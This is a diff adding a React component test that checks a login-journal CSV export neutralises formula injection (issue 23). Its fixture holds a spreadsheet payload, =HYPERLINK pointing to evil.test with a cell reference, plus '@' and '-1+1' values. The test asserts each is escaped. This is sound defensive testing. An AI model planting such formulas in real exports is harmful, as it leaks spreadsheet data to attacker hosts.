@@ -1,8 +1,10 @@
 import { screen, waitFor } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
 import { HttpResponse, http } from 'msw';
 import { AdminUI, CustomRoutes, Resource } from 'react-admin';
 import { Route } from 'react-router-dom';
-import { beforeEach, describe, expect, it } from 'vitest';
+import { beforeEach, describe, expect, it, vi } from 'vitest';
+import * as files from '../../src/components/useFileDownload';
 import { resourceEndpoints } from '../../src/dataProvider/resources';
 import journal, { staffJournalSection } from '../../src/resources/journal';
 import { formatJournalDate } from '../../src/resources/journal/journalDate';
@@ -57,5 +59,30 @@ describe('login journal', () => {
     await waitFor(() => expect(queries.at(-1)?.get('success')).toBe('false'));
     expect(queries.at(-1)?.get('date_from')).toBe('2026-01-01');
     expect(queries.at(-1)?.get('order')).toBe('DESC');
+  });
+
+  it('exports what was typed and the Host header with formulas neutralised (issue 23)', COMPONENT_TEST, async () => {
+    const saved: { name: string; text: Promise<string> }[] = [];
+    vi.spyOn(files, 'saveBlob').mockImplementation((blob, name) => void saved.push({ name, text: blob.text() }));
+    const date = '2026-01-15T10:30:45.000Z';
+    const typed = { ...row('1', false, date, null), input: '=HYPERLINK("http://evil.test/?"&A2,"Open")', host: '@evil.test', ip: '-1+1' };
+    server.use(http.get(gw('/auth/history/login'), () => HttpResponse.json({ data: [typed], total: 1, perPage: 1000, page: 1 })));
+    const { dataProvider } = createTestProviders({ journal: resourceEndpoints.journal });
+    renderWithAdmin(
+      <AdminUI>
+        <Resource name="journal" {...journal} />
+        <CustomRoutes>
+          <Route path={`${staffJournalSection.path}/*`} element={staffJournalSection.element} />
+        </CustomRoutes>
+      </AdminUI>,
+      { dataProvider, path: '/staff/journal', identity: identityWith(['ADMIN']) },
+    );
+    await screen.findByText('@evil.test', {}, RENDER_WAIT);
+    await userEvent.click(screen.getByRole('button', { name: 'Экспорт' }));
+    await waitFor(() => expect(saved).toHaveLength(1));
+    expect(saved[0]!.name).toBe('journal.csv');
+    const [header, line] = (await saved[0]!.text).replace(/^\uFEFF/, '').split('\r\n');
+    const cells = Object.fromEntries(header!.split(';').map((name, index) => [name, line!.split(';')[index]]));
+    expect(cells).toMatchObject({ input: `"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")"`, host: "'@evil.test", ip: "'-1+1", success: 'false' });
   });
 });
